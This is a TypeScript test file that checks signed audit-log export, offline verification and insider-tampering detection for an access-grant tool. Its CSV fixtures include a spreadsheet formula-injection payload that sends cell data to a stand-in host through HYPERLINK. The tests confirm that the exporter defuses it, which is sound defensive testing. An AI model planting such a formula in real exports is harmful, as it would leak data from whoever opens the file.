/**
 * Export the audit log of a real (SQLite) store and verify the file offline with only the
 * public key; then tamper with the file the ways an insider would.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sha256 } from "../src/adapters/node-crypto.js";
import { CSV_COLUMNS, csvCell, exportAudit } from "../src/audit/audit-export.js";
import { createAuditLog } from "../src/audit/audit-log.js";
import { formatVerdict, parseAnchors, verifyJsonl, verifyStoreChain } from "../src/audit/audit-verify.js";
import { generateSigningKey, loadPublicKeys, type PublicKeySet } from "../src/audit/signing-key.js";
import type { AuditEventDraft } from "../src/core/audit-event.js";
import { canonicalJson } from "../src/core/canonical-json.js";
import type { Store } from "../src/core/ports/store.js";
import { createSqliteStore } from "../src/store/sqlite-store.js";
import { createCheckpointWorker } from "../src/workers/checkpoint-worker.js";
import { runCli } from "./support/broker-process.js";
import { makeAuditDraft } from "./support/core-fixtures.js";

const T0 = 1_767_225_600_000;
/** Five batches of 50, each followed by a checkpoint run (signs 50, 150, 250), then 30 unanchored. */
const EVENTS = 280;

function draft(i: number, overrides: Partial<AuditEventDraft> = {}): AuditEventDraft {
  return makeAuditDraft({
    // Not grant.requested: online verification would then look for each grant's row, which this log has none of.
    type: "grant.approval_added",
    actor: "alice",
    at: T0 + i * 1000,
    grantId: `g_${i}`,
    justification: `orders-db refuses connections (${i})`,
    incident: "INC-1042",
    requestId: `req_${i}`,
    sourceAddress: "10.0.0.7",
    data: { n: i, "10": "integer-like key", nested: { z: 1, a: [1.5, null, "ü"] } },
    ...overrides,
  });
}

/** Drafts that exercise CSV quoting and formula protection. */
const NASTY: Record<number, Partial<AuditEventDraft>> = {
  7: { justification: '=HYPERLINK("http://evil.example/?"&A1,"click")', actor: "@admin" },
  8: { justification: "line one\nline two, with a comma", incident: "+INC-9" },
  9: { justification: "-2+3", target: "\tpadded", requestId: "\rreq" },
};

let dir = "";
let store: Store;
let keys: PublicKeySet;
let pubFile = "";

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "bg-audit-export-"));
  store = await createSqliteStore({ path: join(dir, "breakglass.db") });
  const keyFile = join(dir, "keys", "audit-signing.pem");
  const signer = generateSigningKey(keyFile);
  pubFile = `${keyFile}.pub`;
  keys = loadPublicKeys([readFileSync(pubFile, "utf8")]);
  const audit = createAuditLog({ sha256 });
  const worker = createCheckpointWorker({
    store,
    signer,
    clock: { now: () => T0 },
    intervalMs: 3_600_000,
    everyEvents: 100,
  });
  for (let batch = 0; batch < 5; batch += 1) {
    await store.transaction((tx) =>
      audit.append(
        tx,
        Array.from({ length: 50 }, (_, j) => {
          const i = batch * 50 + j + 1;
          return draft(i, NASTY[i]);
        }),
      ),
    );
    await worker.runOnce();
  }
  await store.transaction((tx) =>
    audit.append(
      tx,
      Array.from({ length: EVENTS - 250 }, (_, j) => draft(251 + j)),
    ),
  );
});

afterAll(async () => {
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function exportLines(options: Parameters<typeof exportAudit>[2]): Promise<string[]> {
  const lines: string[] = [];
  await exportAudit(store, (line) => lines.push(line), options);
  return lines;
}

const verify = (lines: Iterable<string>) => verifyJsonl(lines, keys.verifySignature);

/** Change event `seq`'s line with `fn` over its parsed object. */
function editLine(lines: readonly string[], seq: number, fn: (line: { event: Record<string, unknown> }) => void) {
  return lines.map((line) => {
    const parsed = JSON.parse(line) as { kind: string; seq: number; event: Record<string, unknown> };
    if (parsed.kind !== "event" || parsed.seq !== seq) return line;
    fn(parsed);
    return JSON.stringify(parsed);
  });
}

describe("JSONL export", () => {
  it("verifies offline with only the public key, as the store itself does", async () => {
    const lines = await exportLines({ format: "jsonl" });
    expect(lines).toHaveLength(3 + EVENTS);
    const offline = await verify(lines);
    expect(offline).toMatchObject({ ok: true, eventsChecked: EVENTS, headSeq: EVENTS, checkpointsChecked: 3 });
    expect(offline).toMatchObject({ unanchoredEvents: 30 });
    // The same verdict, except that only the database holds the recordings to check.
    expect(offline.ok && offline.recordings).toBeNull();
    expect(await verifyStoreChain(store, keys.verifySignature)).toEqual({
      ...offline,
      recordings: { matched: 0, unsealed: 0 },
    });
    expect(formatVerdict(offline)).toMatch(/^OK: 280 events, head 280 [0-9a-f]{16}…, 3 checkpoints, 30 events after/);
  });

  it("writes checkpoint lines first, then one line per event whose parsed event re-canonicalises to the stored payload", async () => {
    const lines = await exportLines({ format: "jsonl" });
    expect(lines.slice(0, 3).map((l) => JSON.parse(l) as unknown)).toEqual([
      expect.objectContaining({ kind: "checkpoint", seq: 50, keyId: keys.keys[0]?.keyId }),
      expect.objectContaining({ kind: "checkpoint", seq: 150 }),
      expect.objectContaining({ kind: "checkpoint", seq: 250 }),
    ]);
    const stored = await store.readAudit(1, EVENTS);
    for (const [i, line] of lines.slice(3).entries()) {
      const parsed = JSON.parse(line) as { kind: string; seq: number; hash: string; event: unknown };
      const event = stored[i];
      expect(parsed).toMatchObject({ kind: "event", seq: event?.seq, hash: event?.hash });
      expect(canonicalJson(parsed.event)).toBe(event?.payload);
    }
  });

  it("still verifies after a tool re-serialises every line (key order, spacing)", async () => {
    const lines = await exportLines({ format: "jsonl" });
    const reformatted = lines.map((l) => JSON.stringify(JSON.parse(l), null, 0).replace(/^\{/, "{ "));
    expect(await verify(reformatted)).toMatchObject({ ok: true, eventsChecked: EVENTS });
  });

  it("fails at the seq of an event whose field was edited in the file", async () => {
    const lines = editLine(await exportLines({ format: "jsonl" }), 42, (l) => {
      l.event.justification = "routine maintenance";
    });
    const verdict = await verify(lines);
    expect(verdict).toMatchObject({ ok: false, seq: 42, problem: "modified", eventsChecked: 41 });
    expect(formatVerdict(verdict)).toMatch(/^FAILED at seq 42: modified — /);
  });

  it("reports a deleted line as a deleted event", async () => {
    const lines = (await exportLines({ format: "jsonl" })).filter((l) => !l.startsWith('{"kind":"event","seq":42,'));
    expect(await verify(lines)).toMatchObject({ ok: false, seq: 42, problem: "deleted" });
  });

  it("reports two swapped lines as reordered", async () => {
    const lines = await exportLines({ format: "jsonl" });
    const at = lines.findIndex((l) => l.startsWith('{"kind":"event","seq":42,'));
    [lines[at], lines[at + 1]] = [lines[at + 1] ?? "", lines[at] ?? ""];
    expect(await verify(lines)).toMatchObject({ ok: false, seq: 42, problem: "reordered" });
  });

  it("catches a file cut short below a checkpoint as truncated", async () => {
    const lines = (await exportLines({ format: "jsonl" })).slice(0, 3 + 140);
    expect(await verify(lines)).toMatchObject({ ok: false, seq: 141, problem: "truncated" });
  });

  it("catches a tail cut together with its checkpoints against checkpoints kept outside (alarm copies)", async () => {
    const full = await exportLines({ format: "jsonl" });
    // Keep the first checkpoint (seq 50) and events 1..140: internally consistent.
    const cut = [full[0] ?? "", ...full.slice(3, 3 + 140)];
    expect(await verify(cut)).toMatchObject({ ok: true, headSeq: 140 });
    // What a receiver of the audit.checkpoint alarms holds: one message per line, among others.
    const received = full.slice(0, 3).map((l) => {
      const { kind: _, ...checkpoint } = JSON.parse(l) as Record<string, unknown>;
      return JSON.stringify({ event: { type: "audit.checkpoint" }, checkpoint });
    });
    const anchorsText = [JSON.stringify({ event: { type: "grant.activated" } }), ...received].join("\n");
    const anchors = parseAnchors(anchorsText);
    if (typeof anchors === "string") throw new Error(anchors);
    expect(anchors.map((a) => a.seq)).toEqual([50, 150, 250]);
    expect(await verifyJsonl(cut, keys.verifySignature, { anchors })).toMatchObject({
      ok: false,
      seq: 141,
      problem: "truncated",
    });

    // The same through the CLI, offline: `audit verify --file … --checkpoint …` exits 4.
    const cutFile = join(dir, "cut.jsonl");
    const anchorFile = join(dir, "received-checkpoints.jsonl");
    writeFileSync(cutFile, `${cut.join("\n")}\n`);
    writeFileSync(anchorFile, anchorsText);
    const plain = await runCli(["audit", "verify", "--file", cutFile, "--public-key", pubFile]);
    expect(plain.code, plain.stderr).toBe(0);
    const anchored = await runCli([
      "audit",
      "verify",
      "--file",
      cutFile,
      "--public-key",
      pubFile,
      "--checkpoint",
      anchorFile,
    ]);
    expect(anchored.code).toBe(4);
    expect(anchored.stderr).toMatch(/FAILED at seq 141: truncated/);
    writeFileSync(anchorFile, '{"event":{"type":"grant.activated"}}\n');
    const useless = await runCli([
      "audit",
      "verify",
      "--file",
      cutFile,
      "--public-key",
      pubFile,
      "--checkpoint",
      anchorFile,
    ]);
    expect(useless.code).toBe(2);
    expect(useless.stderr).toMatch(/--checkpoint .*holds no checkpoint/);
  });

  it("catches an event line whose seq label was changed", async () => {
    const lines = (await exportLines({ format: "jsonl" })).map((l) =>
      l.replace('{"kind":"event","seq":42,', '{"kind":"event","seq":43,'),
    );
    const verdict = await verify(lines);
    expect(verdict).toMatchObject({ ok: false, seq: 42, problem: "modified" });
    expect(verdict.ok || verdict.message).toMatch(/^line 45 says seq 43 but the event in it is seq 42/);
  });

  it("names the line number of a malformed line", async () => {
    const lines = await exportLines({ format: "jsonl" });
    lines[11] = "{not json";
    const verdict = await verify(lines);
    expect(verdict).toMatchObject({ ok: false, seq: 9, problem: "modified", eventsChecked: 8 });
    expect(verdict.ok || verdict.message).toBe("line 12 is not valid JSON");
    lines[11] = '{"kind":"note"}';
    expect(await verify(lines)).toMatchObject({ ok: false, message: 'line 12 has unknown kind "note"' });
  });

  it("refuses a checkpoint line placed among the events", async () => {
    const lines = await exportLines({ format: "jsonl" });
    const moved = [...lines.slice(1, 50), lines[0] ?? "", ...lines.slice(50)];
    expect(await verify(moved)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/^line 50 is a checkpoint/),
    });
  });

  it("answers unknown_key when the verifier holds another key", async () => {
    const other = generateSigningKey(join(dir, "other.pem"));
    const lines = await exportLines({ format: "jsonl" });
    expect(await verifyJsonl(lines, loadPublicKeys([other.publicKeyPem]).verifySignature)).toMatchObject({
      ok: false,
      seq: 50,
      problem: "unknown_key",
    });
  });

  it("exports a range with only the checkpoints inside it; a range ending at `toSeq` verifies", async () => {
    const lines = await exportLines({ format: "jsonl", toSeq: 120 });
    expect(lines).toHaveLength(1 + 120);
    expect(await verify(lines)).toMatchObject({ ok: true, headSeq: 120, checkpointsChecked: 1, unanchoredEvents: 70 });
    const middle = await exportLines({ format: "jsonl", fromSeq: 101, toSeq: 200, pageSize: 7 });
    expect(middle).toHaveLength(1 + 100);
    expect(JSON.parse(middle[1] ?? "")).toMatchObject({ seq: 101 });
  });

  it("writes the same bytes to a stream, one line per event, across pages", async () => {
    const stream = new PassThrough();
    const chunks: Buffer[] = [];
    stream.on("data", (c: Buffer) => chunks.push(c));
    const summary = await exportAudit(store, stream, { format: "jsonl", pageSize: 33 });
    stream.end();
    expect(summary).toEqual({ events: EVENTS, checkpoints: 3, lastSeq: EVENTS });
    const text = Buffer.concat(chunks).toString("utf8");
    expect(text).toBe(`${(await exportLines({ format: "jsonl" })).join("\n")}\n`);
  });
});

describe("CSV export", () => {
  it("has a header row and one RFC 4180 row per event", async () => {
    const lines = await exportLines({ format: "csv" });
    expect(lines[0]).toBe(
      "seq,at,type,actor,grant,role,domain,target,incident,justification,request_id,source,data,hash",
    );
    expect(CSV_COLUMNS).toHaveLength(14);
    expect(lines).toHaveLength(1 + EVENTS);
    const [stored] = await store.readAudit(1, 1);
    expect(lines[1]).toBe(
      [
        "1",
        "2026-01-01T00:00:01.000Z",
        "grant.approval_added",
        "alice",
        "g_1",
        "production/db-admin",
        "production",
        "orders-db",
        "INC-1042",
        "orders-db refuses connections (1)",
        "req_1",
        "10.0.0.7",
        '"{""10"":""integer-like key"",""n"":1,""nested"":{""a"":[1.5,null,""ü""],""z"":1}}"',
        stored?.hash,
      ].join(","),
    );
  });

  it("defuses cells a spreadsheet would run as formulas and quotes commas, quotes and line breaks", async () => {
    const lines = await exportLines({ format: "csv", fromSeq: 7, toSeq: 9 });
    expect(lines[1]).toContain(`,'@admin,`);
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(lines[2]).toContain(`,'+INC-9,"line one\nline two, with a comma",`);
    expect(lines[3]).toContain(`,'\tpadded,`);
    expect(lines[3]).toContain(`,'-2+3,"'\rreq",`);
  });

  it("quotes and defuses single cells", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell(42)).toBe("42");
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("=1+2")).toBe("'=1+2");
    expect(csvCell("=1,2")).toBe(`"'=1,2"`);
    expect(csvCell("a=b")).toBe("a=b");
  });

  it("ends stream rows with CRLF", async () => {
    const stream = new PassThrough();
    const chunks: Buffer[] = [];
    stream.on("data", (c: Buffer) => chunks.push(c));
    await exportAudit(store, stream, { format: "csv", toSeq: 2 });
    stream.end();
    const text = Buffer.concat(chunks).toString("utf8");
    expect(text.split("\r\n")).toHaveLength(4);
    expect(text.endsWith("\r\n")).toBe(true);
  });
});

describe("the public key file", () => {
  it("is all an auditor needs", () => {
    expect(readFileSync(pubFile, "utf8")).toMatch(/^-----BEGIN PUBLIC KEY-----\n[\s\S]+-----END PUBLIC KEY-----\n$/);
  });
});
